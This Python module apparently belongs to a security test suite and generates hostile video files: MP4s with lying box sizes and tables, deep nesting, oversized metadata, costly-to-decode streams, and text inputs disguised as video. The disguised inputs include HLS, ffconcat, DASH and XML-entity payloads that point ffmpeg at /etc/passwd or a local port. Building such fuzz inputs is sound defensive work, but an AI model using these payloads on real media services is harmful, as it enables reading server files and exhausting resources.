"""Hostile video files: boxes that lie about what is in them, bombs, and playlists that call themselves videos."""

from __future__ import annotations

import struct
from collections.abc import Callable, Mapping
from functools import cache
from random import Random
from types import MappingProxyType
from typing import Final, TypeAlias

from video_making import made

from attack.origin import Origin

Maker: TypeAlias = Callable[[Random, Origin], bytes]

_CONTAINERS: Final = (b"moov", b"trak", b"mdia", b"minf", b"stbl", b"dinf", b"edts", b"udta")


@cache
def honest() -> bytes:
    return made("testsrc=size=128x96:rate=24:duration=0.5", sound="sine=frequency=440:duration=0.5")


def box(kind: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body) + 8) + kind + body


def _boxes(data: bytes) -> list[tuple[bytes, bytes]]:
    """Kind and body of each box that lies directly in `data`."""
    found = []
    while data:
        size, kind = struct.unpack_from(">I4s", data)
        found.append((kind, data[8:size]))
        data = data[size:]
    return found


def changed(data: bytes, kind: bytes, change: Callable[[bytes], bytes]) -> bytes:
    """The file with the body of every box of a kind changed; what surrounds it grows along."""
    new = b""
    for each, body in _boxes(data):
        if each == kind:
            body = change(body)
        elif each in _CONTAINERS:
            body = changed(body, kind, change)
        new += box(each, body)
    return new


def _tables(random: Random, origin: Origin) -> bytes:
    """Tables that promise more entries than the file has bytes, or values that make no sense."""
    kind = random.choice((b"stsz", b"stco", b"stts", b"stsc", b"stss", b"ctts", b"elst", b"dref", b"stsd"))
    number = random.choice((0, 1, 2**31 - 1, 2**32 - 1, 10_000_000))
    value = random.choice((0, 1, 2**31, 2**32 - 1))
    wide = random.random() < 0.3

    def change(body: bytes) -> bytes:
        at = 8 if kind == b"stsz" else 4
        new = bytearray(body)
        new[at : at + 4] = struct.pack(">I", number)
        if wide:
            new += struct.pack(">I", value) * 500_000
        elif len(new) >= at + 8:
            new[at + 4 : at + 8] = struct.pack(">I", value)
        return bytes(new)

    return changed(honest(), kind, change)


def _headers(random: Random, origin: Origin) -> bytes:
    """Times, scales, sizes and matrices at their ends."""
    kind = random.choice((b"mvhd", b"tkhd", b"mdhd", b"stsd", b"hdlr"))
    value = random.choice((0, 1, 0x7FFFFFFF, 0x80000000, 0xFFFFFFFF))

    def change(body: bytes) -> bytes:
        new = bytearray(body)
        for _ in range(random.randint(1, 3)):
            at = random.randrange(0, max(4, len(new) - 4)) // 4 * 4
            new[at : at + 4] = struct.pack(">I", value)
        return bytes(new)

    return changed(honest(), kind, change)


def _box_sizes(random: Random, origin: Origin) -> bytes:
    data = bytearray(honest())
    kind = random.choice((b"ftyp", b"moov", b"trak", b"mdat", b"stbl", b"stsd", b"avcC", b"esds", b"udta", b"mdia"))
    at = data.find(kind) - 4
    data[at : at + 4] = struct.pack(">I", random.choice((0, 1, 7, 8, 2**31, 2**32 - 1)))
    return bytes(data)


def _streams(random: Random, origin: Origin) -> bytes:
    times = random.choice((50, 2000, 10_000))
    parts = dict(_boxes(dict(_boxes(honest()))[b"moov"]))
    return changed(honest(), b"moov", lambda body: body + box(b"trak", parts[b"trak"]) * times)


def _nested(random: Random, origin: Origin) -> bytes:
    """Boxes in boxes in boxes."""
    depth = random.choice((50, 1000, 5000))
    kind = random.choice((b"moov", b"udta", b"trak", b"wave", b"meta"))
    # From the outermost to the innermost: each holds all that follow.
    inner = b"".join(struct.pack(">I", 8 * (depth - level)) + kind for level in range(depth))
    return honest() + inner if random.random() < 0.5 else box(b"ftyp", b"mp42\0\0\0\0mp42") + inner


def _many_boxes(random: Random, origin: Origin) -> bytes:
    kind = random.choice((b"free", b"moov", b"moof", b"uuid", b"sidx", b"mdat", b"\0\0\0\0"))
    times = random.choice((1000, 1_000_000))
    return honest() + box(kind) * times if random.random() < 0.5 else box(kind) * times + honest()


def _metadata(random: Random, origin: Origin) -> bytes:
    """Text and pictures by the megabyte, or in great number."""
    name = b"\xa9nam" if random.random() < 0.5 else b"covr"
    size, times = random.choice(((5_000_000, 1), (10, 200_000), (2, 1)))
    entry = box(name, box(b"data", struct.pack(">II", 1, 0) + b"x" * size))
    return changed(
        honest(), b"moov", lambda body: body + box(b"udta", box(b"meta", bytes(4) + box(b"ilst", entry * times)))
    )


def _aliases(random: Random, origin: Origin) -> bytes:
    """The samples are said to lie in another file, or at an address."""
    kind, place = random.choice(
        (
            (b"url ", f"http://127.0.0.1:{origin.port}/video".encode() + b"\0"),
            (b"url ", b"file:///etc/passwd\0"),
            (b"alis", b"\0" * 50 + b"/etc/passwd\0" + b"\0" * 60),
            (b"urn ", b"x\0file:///etc/passwd\0"),
        )
    )
    reference = struct.pack(">II", 0, 1) + box(kind, bytes(4) + place)
    return changed(honest(), b"dref", lambda _: reference)


def _disguised(random: Random, origin: Origin) -> bytes:
    """What makes ffmpeg open other files and addresses, where it may guess the format."""
    here = f"http://127.0.0.1:{origin.port}/video.ts"
    target = random.choice(
        (here, "file:///etc/passwd", "/etc/passwd", f"concat:/etc/passwd|{here}", f"subfile,,start,0,end,9,,:{here}")
    )
    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{target}\n#EXT-X-ENDLIST\n"
    texts = (
        playlist,
        f"ffconcat version 1.0\nfile '{target}'\n",
        f"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {origin.port} RTP/AVP 96\n",
        f'<?xml version="1.0"?><MPD><Period><AdaptationSet><Representation><BaseURL>{target}</BaseURL></Representation>'
        "</AdaptationSet></Period></MPD>",
        f"[playlist]\nFile1={target}\n",
        f'<!DOCTYPE x [<!ENTITY y SYSTEM "{target}">]><x>&y;</x>',
        f";FFMETADATA1\ntitle={target}\n",
        "#!/bin/sh\n",
    )
    text = random.choice(texts).encode()
    front = random.choice((b"", b"", box(b"ftyp", b"mp42\0\0\0\0mp42"), box(b"free", b"x" * 100)))
    return front + text


def _cut(random: Random, origin: Origin) -> bytes:
    return honest()[: random.randrange(len(honest()))]


def _flipped(random: Random, origin: Origin) -> bytes:
    data = bytearray(honest())
    for _ in range(random.randint(1, 30)):
        data[random.randrange(len(data))] = random.randrange(256)
    return bytes(data)


@cache
def _of(source: str, *output: str) -> bytes:
    return made(source, *output)


def _costly(random: Random, origin: Origin) -> bytes:
    """Small files that take long to decode."""
    return random.choice(
        (
            lambda: _of("color=size=4096x2160:rate=24:duration=4", "-preset", "ultrafast"),
            lambda: _of("color=size=64x64:rate=1000:duration=10", "-preset", "ultrafast"),
            lambda: _of("color=size=128x96:rate=24:duration=60", "-preset", "ultrafast"),
            lambda: _of("color=size=4096x4096:rate=1:duration=10", "-preset", "ultrafast"),
            lambda: _of("color=size=64x64:rate=1/10:duration=20", "-preset", "ultrafast"),
        )
    )()


def _other_form(random: Random, origin: Origin) -> bytes:
    return random.choice(
        (
            b"",
            b"RIFF\0\0\0\0AVI LIST",
            b"\x1aE\xdf\xa3" + bytes(99),
            b"OggS\0",
            b"GIF89a",
            bytes(10_000),
            b"\0\0\0\x18ftypmp42",
        )
    )


FILES: Final[Mapping[str, Maker]] = MappingProxyType(
    {
        "tables": _tables,
        "headers": _headers,
        "box sizes": _box_sizes,
        "streams": _streams,
        "nested": _nested,
        "many boxes": _many_boxes,
        "metadata": _metadata,
        "aliases": _aliases,
        "disguised": _disguised,
        "cut": _cut,
        "flipped": _flipped,
        "costly": _costly,
        "another form": _other_form,
    }
)


def written(kind: str, mark: str, origin: Origin) -> bytes:
    """The same for the same mark and port."""
    return FILES[kind](Random(mark), origin)
